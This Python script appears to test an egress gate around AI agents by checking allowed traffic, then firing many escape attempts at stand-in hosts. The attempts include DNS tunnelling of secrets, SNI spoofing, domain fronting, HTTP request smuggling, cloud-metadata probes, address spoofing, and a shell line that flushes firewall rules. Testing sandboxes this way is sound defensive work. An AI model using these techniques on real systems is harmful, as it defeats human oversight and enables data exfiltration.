"""The way out, from inside.

`python3 - works FAMILY` does what the policy allows; `python3 - attacks FAMILY` tries to get anywhere else. FAMILY is 4 or 6.
Prints a line for each attempt: its name, and what came back. What got out is for the servers outside to say.
"""
import os
import socket
import ssl
import struct
import sys
import threading
import time

FAMILY = {"4": socket.AF_INET, "6": socket.AF_INET6}[sys.argv[2]]
TIME = float(os.environ.get("TIME", "10"))


def address(name, port=443):
    """What DNS says of a name in this family."""
    return socket.getaddrinfo(name, port, FAMILY, socket.SOCK_STREAM)[0][4][:2]


def connect(where):
    made = socket.socket(FAMILY, socket.SOCK_STREAM)
    made.settimeout(TIME)
    made.connect(where)
    return made


def rest(stream):
    got = b""
    try:
        while len(got) < 65536:
            piece = stream.recv(65536)
            if not piece:
                break
            got += piece
    except (ConnectionError, ssl.SSLError) as error:
        got += b" <%s>" % type(error).__name__.encode()
    return got


def get(host, path="/", method="GET", version="1.1", more=""):
    return f"{method} {path} HTTP/{version}\r\nHost: {host}\r\nConnection: close\r\n{more}\r\n".encode()


def plain(where, said):
    with connect(where) as stream:
        stream.sendall(said)
        return rest(stream)


def context():
    made = ssl.create_default_context()
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    return made


def tls(where, sni, host=None, made=None):
    with connect(where) as raw:
        with (made or context()).wrap_socket(raw, server_hostname=sni) as stream:
            stream.sendall(get(host or sni))
            return rest(stream)


def verified(name):
    return tls(address(name), name, made=ssl.create_default_context(cafile="/tmp/ca.pem"))


def banner(name, port):
    with connect(address(name, port)) as stream:
        first = stream.recv(100)
        stream.sendall(b"and back")
        stream.shutdown(socket.SHUT_WR)
        return first + rest(stream)


def two_requests():
    with connect(address("plain.example.com", 80)) as stream:
        stream.sendall(b"GET /one HTTP/1.1\r\nHost: plain.example.com\r\n\r\n")
        time.sleep(0.3)
        first = stream.recv(65536)
        stream.sendall(get("plain.example.com", "/two"))
        return first + rest(stream)


def loopback():
    """The agent's own servers, also at the ports of others."""
    own = {socket.AF_INET: "127.0.0.1", socket.AF_INET6: "::1"}[FAMILY]
    got = b""
    for port in 80, 443, 8080:
        with socket.create_server((own, port), family=FAMILY) as server:
            with connect((own, port)) as stream:
                peer, _ = server.accept()
                peer.sendall(b"own ")
                peer.close()
                got += rest(stream)
    return got


WORKS = {
    "tls": lambda: verified("api.example.com"),
    "deep": lambda: verified("a.b.deep.example.com"),
    "http": two_requests,
    "banner": lambda: banner("ssh.example.com", 22),
    "loopback": loopback,
}


def dns(question, where, kind=socket.SOCK_DGRAM):
    """Asks a server by hand."""
    message = struct.pack(">HHHHHH", 4711, 0x100, 1, 0, 0, 0)
    for label in question.split("."):
        message += bytes([len(label)]) + label.encode()
    message += b"\0" + struct.pack(">HH", 16, 1)
    with socket.socket(FAMILY, kind) as asking:
        asking.settimeout(2)
        asking.connect((where, 53))
        asking.send(message if kind == socket.SOCK_DGRAM else struct.pack(">H", len(message)) + message)
        return asking.recv(4096)


def answers(reply, kind):
    """The count of answers, in a reply of DNS."""
    reply = reply if kind == socket.SOCK_DGRAM else reply[2:]
    return b"answers: %d, code %d" % (struct.unpack(">H", reply[6:8])[0], reply[3] & 15)


def split_hello(name, sni):
    """A ClientHello in pieces of one byte, in as many records as it has bytes."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    hello = context().wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        hello.do_handshake()
    except ssl.SSLWantReadError:
        pass
    record = outgoing.read()
    body = record[5:]
    with connect(address(name)) as stream:
        stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for start in range(0, len(body), 16):
            piece = body[start:start + 16]
            stream.sendall(record[:3] + struct.pack(">H", len(piece)) + piece)
        return rest(stream)


def late_hello(sni):
    """Says nothing until the gate takes it for something else, and then begins with TLS."""
    with connect(address("ssh.example.com", 22)) as raw:
        time.sleep(1)
        raw.recv(100)
        with context().wrap_socket(raw, server_hostname=sni) as stream:
            stream.sendall(get(sni))
            return rest(stream)


def raw_socket(kind, protocol):
    with socket.socket(FAMILY, kind, protocol) as made:
        made.sendto(b"x" * 64, (LITERALS[0], 0))
        return b"sent"


def bound_to(option, value):
    with socket.socket(FAMILY, socket.SOCK_STREAM) as made:
        made.settimeout(TIME)
        made.setsockopt(socket.SOL_SOCKET, option, value)
        made.connect((LITERALS[0], 80))
        made.sendall(get("evil.example.net"))
        return rest(made)


def udp(where, port, said=b"x" * 1200):
    with socket.socket(FAMILY, socket.SOCK_DGRAM) as made:
        made.settimeout(1)
        made.connect((where, port))
        made.send(said)
        return made.recv(2000)


def from_another():
    """With the address of somebody else as its own."""
    with socket.socket(FAMILY, socket.SOCK_STREAM) as made:
        made.settimeout(TIME)
        made.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND
        made.bind((LITERALS[1], 0))
        made.connect((LITERALS[0], 80))
        made.sendall(get("evil.example.net"))
        return rest(made)


def smuggled(more):
    """A second request for another host, in what one side takes for a body and the other does not."""
    second = get("evil.example.net", "/smuggled").decode()
    return plain(address("plain.example.com", 80), f"POST / HTTP/1.1\r\nHost: plain.example.com\r\n{more}\r\n{second}".encode())


V4 = ["51.15.0.3", "10.1.2.3", "172.16.5.5", "192.168.7.7", "100.64.1.1", "169.254.169.254", "198.18.77.77"]
V6 = ["2a00:1111::2", "fd00::5", "fd00:ec2::254", "64:ff9b::a01:203"]
LITERALS = V4 if FAMILY == socket.AF_INET else V6
HERE = {socket.AF_INET: "127.0.0.1", socket.AF_INET6: "::1"}[FAMILY]
MAPPED = ["::ffff:10.1.2.3", "::ffff:169.254.169.254", "::ffff:127.0.0.1"]
ODD = ["0x0a010203", "167838211", "012.1.2.3", "10.66051", "0x33.15.0.3", "855572483"]

ATTACKS = {}
for literal in LITERALS:
    ATTACKS[f"literal {literal} http"] = lambda literal=literal: plain((literal, 80), get("plain.example.com"))
    ATTACKS[f"literal {literal} tls"] = lambda literal=literal: tls((literal, 443), "api.example.com")
    ATTACKS[f"dns {literal}"] = lambda literal=literal: answers(dns("x.leak.example.net", literal), socket.SOCK_DGRAM)
    ATTACKS[f"dns tcp {literal}"] = lambda literal=literal: answers(
        dns("x.leak.example.net", literal, socket.SOCK_STREAM), socket.SOCK_STREAM)
    ATTACKS[f"quic {literal}"] = lambda literal=literal: udp(literal, 443)
if FAMILY == socket.AF_INET6:
    for literal in MAPPED:
        ATTACKS[f"mapped {literal}"] = lambda literal=literal: plain((literal, 80), get("plain.example.com"))
else:
    for literal in ODD:
        ATTACKS[f"odd {literal}"] = lambda literal=literal: plain(address(literal, 80), get("plain.example.com"))
for name in "evil.example.net", "example.com", "com", "api.example.com.evil.example.net", "localhost.evil.example.net", "notexample.com":
    ATTACKS[f"name {name}"] = lambda name=name: tls(address(name), name)
for port in 22, 80, 444, 8443:
    ATTACKS[f"port {port}"] = lambda port=port: plain(address("api.example.com", port), get("api.example.com"))
for name in "inside.example.com", "meta.example.com", "rebound.example.com", "mixed.example.com":
    ATTACKS[f"private {name}"] = lambda name=name: plain(address(name, 80), get(name))
    ATTACKS[f"private {name} again"] = lambda name=name: plain(address(name, 80), get(name))
ATTACKS |= {
    "tunnel": lambda: b" ".join(
        answers(dns(f"{'%x' % turn * 20}.leak.example.net", LITERALS[0]), socket.SOCK_DGRAM) for turn in range(20)),
    "tunnel allowed": lambda: b" ".join(
        answers(dns(f"secret{turn}.deep.example.com", LITERALS[0]), socket.SOCK_DGRAM) for turn in range(20)),
    "sni": lambda: tls(address("api.example.com"), "evil.example.net"),
    "fronting": lambda: tls(address("api.example.com"), "front.example.com", "evil.example.net"),
    "sni in pieces": lambda: split_hello("api.example.com", "evil.example.net"),
    "late hello": lambda: late_hello("evil.example.net"),
    "host": lambda: plain(address("plain.example.com", 80), get("evil.example.net")),
    "host and another": lambda: plain(address("plain.example.com", 80), get("plain.example.com", more="Host: evil.example.net\r\n")),
    "no host": lambda: plain(address("plain.example.com", 80), b"GET / HTTP/1.1\r\n\r\n"),
    "absolute": lambda: plain(address("plain.example.com", 80), get("plain.example.com", "http://evil.example.net/")),
    "connect": lambda: plain(address("plain.example.com", 80), b"CONNECT evil.example.net:443 HTTP/1.1\r\nHost: plain.example.com\r\n\r\n"),
    "second request": lambda: plain(
        address("plain.example.com", 80),
        b"GET /first HTTP/1.1\r\nHost: plain.example.com\r\n\r\n" + get("evil.example.net", "/second")),
    "lengths": lambda: smuggled("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n"),
    "two lengths": lambda: smuggled("Content-Length: 0\r\nContent-Length: 9\r\n"),
    "odd coding": lambda: smuggled("Transfer-Encoding: xchunked\r\n"),
    "bare newline": lambda: plain(
        address("plain.example.com", 80), b"GET / HTTP/1.1\nHost: plain.example.com\n\n" + get("evil.example.net", "/bare")),
    "http 2": lambda: plain(address("plain.example.com", 80), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 40),
    "garbage at 443": lambda: plain(address("api.example.com"), b"\x16\x03\x01\xff\xff" + b"\xff" * 5000),
    "http at 443": lambda: plain(address("api.example.com"), get("evil.example.net")),
    "raw": lambda: raw_socket(socket.SOCK_RAW, socket.IPPROTO_RAW),
    "icmp": lambda: raw_socket(socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
    "device": lambda: bound_to(25, b"lo\0"),  # SO_BINDTODEVICE
    "mark": lambda: bound_to(36, struct.pack("i", 1)),  # SO_MARK
    "source": from_another,
    "gate's own port": lambda: plain((HERE, 15001), get("plain.example.com")),
    "dns here": lambda: answers(dns("x.leak.example.net", HERE), socket.SOCK_DGRAM),
    "host's loopback": lambda: plain((HERE, int(os.environ["CONTROL"])), get("localhost", "/v1/agents")),
    "routes": lambda: os.popen("ip route add default via 10.0.0.1 2>&1; ip link add x type dummy 2>&1; nft flush ruleset 2>&1").read().encode(),
}


def attempt(name, act):
    try:
        got = act()
    except Exception as error:  # whatever it is, nothing came back
        got = repr(error).encode()
    print(f"{name}: {got[:400]!r}", flush=True)


def main():
    chosen = WORKS if sys.argv[1] == "works" else ATTACKS
    # Side by side: many of them wait for what never comes.
    running = [threading.Thread(target=attempt, args=item) for item in chosen.items()]
    for thread in running:
        thread.start()
    for thread in running:
        thread.join()


main()
